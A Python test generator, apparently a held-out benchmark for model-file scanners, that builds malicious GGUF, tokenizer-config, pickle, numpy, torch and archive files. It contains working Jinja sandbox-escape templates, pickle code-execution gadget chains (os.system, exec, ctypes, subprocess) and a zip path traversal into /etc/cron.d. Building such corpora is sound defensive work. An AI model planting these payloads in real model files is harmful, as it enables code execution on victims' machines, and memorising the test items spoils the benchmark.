"""Round 7, F05 and upstream-like variants: templates that leave the sandbox, well-known shapes."""

import json
import struct
from collections.abc import Iterator
from typing import Any

import numpy as np

from held_out.seventh_asm import CANARY, CMD, PY, B, C, Loaded, call, emit, g, kw, pickled
from held_out.seventh_containers import EVIL, make, objects, tarred, torch_parts, zipped
from held_out.seventh_zip import Part, archive

RUN = f"os.popen('{CMD}').read()"

TEMPLATES = {
    "joiner": "{{ joiner.__init__.__globals__." + RUN + " }}",
    "namespace": "{% set ns = namespace(f=lipsum) %}{{ ns.f['__globals__']['os'].system('"
    + CMD
    + "') }}",
    "lipsum_item": "{{ lipsum['__glo' ~ 'bals__']['os']['popen']('" + CMD + "').read() }}",
    "attr_hex": "{{ cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('get')('os')|attr('system')('"
    + CMD
    + "') }}",
    "attr_unicode": "{{ lipsum|attr('\\u005f_globals_\\u005f')|attr('get')('os')|attr('system')('"
    + CMD
    + "') }}",
    "reversed_name": "{{ (lipsum|attr('__slabolg__'[::-1])).os.system('" + CMD + "') }}",
    "joined_list": "{{ (lipsum|attr(['__', 'glob', 'als__']|join)).os.system('" + CMD + "') }}",
    "dict_join": "{% set u = '_' * 2 %}{{ (lipsum|attr(u ~ (dict(globals=1)|list|first) ~ u)).os.system('"
    + CMD
    + "') }}",
    "format_code": "{{ (lipsum|attr('%c%cglobals%c%c'|format(95, 95, 95, 95))).os.system('"
    + CMD
    + "') }}",
    "replace_name": "{{ (lipsum|attr('..globals..'|replace('.', '_'))).os.system('" + CMD + "') }}",
    "map_attribute": "{{ ([lipsum]|map(attribute='__globals__.os')|first).system('" + CMD + "') }}",
    "map_attr_filter": "{% for x in [lipsum]|map('attr', '__globals__') %}{{ x.os.system('"
    + CMD
    + "') }}{% endfor %}",
    "groupby": "{% for x in [cycler]|groupby('__init__.__globals__.os') %}{{ x.grouper.system('"
    + CMD
    + "') }}{% endfor %}",
    "sum_attribute": "{{ ([joiner]|sum(attribute='__init__.__globals__', start=namespace())).os.system('"
    + CMD
    + "') if false else ([joiner]|map(attribute='__init__')|list)[0].__globals__.os.system('"
    + CMD
    + "') }}",
    "macro_caller": "{% macro m(x) %}{{ x.__globals__.os.system('"
    + CMD
    + "') }}{% endmacro %}{{ m(lipsum) }}",
    "call_block": "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ cycler.__init__.__globals__.os.system('"
    + CMD
    + "') }}{% endcall %}",
    "filter_block": "{% filter upper %}{{ joiner.__init__.__globals__.os.system('"
    + CMD
    + "') }}{% endfilter %}",
    "in_condition": "{% if lipsum.__globals__.os.system('" + CMD + "') == 0 %}ok{% endif %}",
    "set_block": "{% set x %}{{ lipsum.__globals__.os.system('" + CMD + "') }}{% endset %}{{ x }}",
    "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['system']('"
    + CMD
    + "') }}{% endif %}{% endfor %}",
    "self_import": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('"
    + CMD
    + "') }}",
    "import_on_message": "{% for m in messages %}{{ m.get.__class__.__base__.__subclasses__()|length }}{{ lipsum.__globals__['__builtins__']['exec'](\""
    + PY
    + '") }}{% endfor %}',
    "whitespace_control": "{%- for m in messages -%}{{- m['role'] -}}{{-\n  lipsum\n  .\n  __globals__\n  .os\n  .system('"
    + CMD
    + "')\n-}}{%- endfor -%}",
    "raw_then_code": "{% raw %}{{ safe }}{% endraw %}{{ lipsum.__globals__.os.system('"
    + CMD
    + "') }}",
    "test_argument": "{{ 1 is divisibleby(lipsum.__globals__.os.system('" + CMD + "') + 1) }}",
    "slice_argument": "{{ 'abc'[lipsum.__globals__.os.system('" + CMD + "'):] }}",
    "loop_else": "{% for x in [] %}{% else %}{{ cycler.__init__.__globals__.os.system('"
    + CMD
    + "') }}{% endfor %}",
}


def gguf(entries: dict[str, Any], version: int = 3, tensors: int = 0) -> bytes:
    """Return a GGUF file of strings, numbers and lists of strings."""

    def short(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    body = b""
    for key, value in entries.items():
        body += short(key)
        if isinstance(value, str):
            body += struct.pack("<I", 8) + short(value)
        elif isinstance(value, bool):
            body += struct.pack("<IB", 7, value)
        elif isinstance(value, int):
            body += struct.pack("<II", 4, value)
        elif isinstance(value, float):
            body += struct.pack("<If", 6, value)
        elif value and isinstance(value[0], str):
            body += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(map(short, value))
        else:
            body += struct.pack("<IIQ", 9, 6, len(value)) + struct.pack(f"<{len(value)}f", *value)
    data = b"GGUF" + struct.pack("<IQQ", version, tensors, len(entries)) + body
    return data + bytes(-len(data) % 32)


def llama(**more: Any) -> dict[str, Any]:
    return {
        "general.architecture": "llama",
        "general.name": "m",
        "llama.block_count": 2,
        "llama.context_length": 128,
        "llama.embedding_length": 32,
        "llama.attention.head_count": 4,
        "llama.attention.layer_norm_rms_epsilon": 1e-5,
        "tokenizer.ggml.model": "gpt2",
        "tokenizer.ggml.tokens": ["<s>", "</s>", "a"],
        **more,
    }


def templates() -> Iterator[Loaded]:
    turns = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"
    for at, (name, escape) in enumerate(TEMPLATES.items()):
        body = turns + escape if at % 3 else escape
        named = [
            {"name": "default", "template": "{{ messages[0].content }}"},
            {"name": "tool_use", "template": body},
        ]
        forms: tuple[tuple[str, bytes], ...] = (
            (f"{name}.gguf", gguf(llama(**{"tokenizer.chat_template": body}))),
            (
                f"{name}_tokenizer_config.json",
                json.dumps({"chat_template": body, "eos_token": "</s>"}).encode(),
            ),
            (f"{name}_chat_template.jinja", body.encode()),
            (f"{name}_named_tokenizer_config.json", json.dumps({"chat_template": named}).encode()),
            (
                f"{name}_rag.gguf",
                gguf(
                    llama(
                        **{
                            "tokenizer.chat_template": "{{ bos_token }}",
                            "tokenizer.chat_template.rag": body,
                        }
                    )
                ),
            ),
            (f"{name}_chat_template.json", json.dumps({"chat_template": body}).encode()),
        )
        file, data = forms[at % len(forms)]
        yield make("F05_template", file, data, f"jinja:{body}")
    whole = gguf(llama())
    for name, data in {
        "strings_array_huge": whole.replace(
            struct.pack("<IIQ", 9, 8, 3), struct.pack("<IIQ", 9, 8, 1 << 40)
        ),
        "tensors_huge": whole[:8] + struct.pack("<Q", 1 << 50) + whole[16:],
        "nested_arrays": whole[:16]
        + struct.pack("<Q", 1)
        + struct.pack("<Q", 1)
        + b"a"
        + struct.pack("<I", 9)
        + struct.pack("<IQ", 9, 1) * 5000,
        "key_huge": whole[:24] + struct.pack("<Q", 1 << 62) + whole[32:],
    }.items():
        yield make("F05_gguf_malformed", f"{name}.gguf", data, "construction")


def injected(real: bytes, *, at_end: bool) -> bytes:
    """Return a real model's pickle (protocol 4 or 2) with a call put before or behind it."""
    do = b"cbuiltins\nexec\n(V" + PY.encode() + b"\ntR"
    skip = 2 + (9 if real[2:3] == b"\x95" else 0)
    start, body = real[:2], real[skip:]
    if real.count(b"\x95") > 1:  # frames would have wrong sizes: only the first is taken out
        at_end = False
        return start + do + b"0" + real[2:]
    return start + (body[:-1] + do + b"0." if at_end else do + b"0" + body)


def upstream() -> Iterator[Loaded]:
    import pickle  # noqa: TID251 - written, never read

    import torch
    from sklearn.linear_model import Ridge
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.arange(12.0).reshape(6, 2)
    fitted = make_pipeline(StandardScaler(), Ridge()).fit(x, x[:, 0])
    for name, real in {
        "pipeline": pickle.dumps(fitted, 4),
        "pipeline_p2": pickle.dumps(fitted, 2),
        "state": pickle.dumps({"w": x, "names": ["a"]}, 3),
        "ridge_p5": pickle.dumps(fitted[-1], 5),
    }.items():
        for end in (False, True):
            yield make(
                "U_fickling",
                f"{name}_{'end' if end else 'start'}.pkl",
                injected(real, at_end=end),
                "pickle",
            )
    for proto in range(6):
        value = {"model": "bert", "run": call("os:system", CMD)}
        yield make("U_picklescan", f"system_v{proto}.pkl", pickled(value, proto), "pickle")
        yield make(
            "U_fickling",
            f"import_exec_v{proto}.pkl",
            pickled(
                [
                    C(
                        call("builtins:getattr", call("builtins:__import__", "builtins"), "exec"),
                        [PY],
                    )
                ],
                proto,
            ),
            "pickle",
        )
    table: dict[str, Any] = {
        "runpy_run": call("runpy:_run_code", call("builtins:compile", PY, "m", "exec"), {}),
        "attrgetter": C(
            C(call("operator:attrgetter", "system"), [call("importlib:import_module", "os")]), [CMD]
        ),
        "methodcaller": C(
            call("operator:methodcaller", "system", CMD), [call("importlib:import_module", "os")]
        ),
        "resolve_name": C(call("pkgutil:resolve_name", "os:system"), [CMD]),
        "bash_c": call("subprocess:check_output", ["bash", "-c", CMD]),
        "ordered_dict": C(g("collections:OrderedDict"), [[("a", call("os:system", CMD))]]),
        "nested_collections": call(
            "collections:deque", [{"a": [({"b": call("builtins:eval", EXPRESSION)},)]}]
        ),
        "rebuild_spoof": [
            call("torch._utils:_rebuild_parameter", call("os:system", CMD), True, {})
        ],
        "reconstruct_spoof": B(
            call("numpy._core.multiarray:_reconstruct", g("numpy:ndarray"), (0,), b"b"),
            (1, (1,), call("numpy:dtype", "O8", False, True), False, [call("os:system", CMD)]),
        ),
        "sklearn_state": B(
            call(
                "copyreg:_reconstructor",
                g("sklearn.linear_model._base:LinearRegression"),
                g("builtins:object"),
                None,
            ),
            {"coef_": call("os:system", CMD)},
        ),
        "pty": call("pty:spawn", ["touch", CANARY]),
        "fileio": call("io:FileIO", CANARY, "w"),
        "urlopen": call("urllib.request:urlopen", "http://127.0.0.1:9/?d=1"),
        "nt_as_posix": call("posix:system", CMD),
        "shell_true": kw("subprocess:Popen", CMD, shell=True),
        "cprofile": call("cProfile:run", PY),
        "code_type": C(g("builtins:exec"), [call("builtins:compile", PY, "m", "exec"), {}]),
        "ctypes": C(call("builtins:getattr", call("ctypes:CDLL", None), "system"), [CMD.encode()]),
    }
    for name, value in table.items():
        yield make(
            "U_picklescan" if len(name) % 2 else "U_modelaudit",
            f"{name}.pkl",
            pickled(value, 4),
            "pickle",
        )
    body = b"\x80\x04" + emit(call("os:system", CMD), 4) + b"."
    for name, data, loader in (
        ("malicious.bin", archive(torch_parts(body)), "torch"),
        ("object_array.npy", objects(body), "numpy"),
        ("object_arrays.npz", zipped({"a.npy": objects(body)}), "npz"),
        ("model.tar.gz", tarred({"model.pkl": body}, "w:gz"), "unpack"),
        ("evil.zip", archive([Part(b"data.dat", EVIL, 8)]), "unpack"),
        ("flags_0x8000.zip", archive([Part(b"data.pkl", EVIL, local_flags=0x8001)]), "local"),
        (
            "traversal.zip",
            archive([Part(b"../../../../etc/cron.d/x", b"* * * * * root true\n")]),
            "construction",
        ),
    ):
        yield make("U_modelaudit", name, data, loader)
    box = torch.ones(1).numpy().tobytes()
    yield make(
        "U_modelscan",
        "unsafe_pytorch.pt",
        archive([Part(b"m/data.pkl", EVIL), Part(b"m/data/0", box), Part(b"m/version", b"3")]),
        "torch",
    )


EXPRESSION = f"__import__('os').system('{CMD}')"
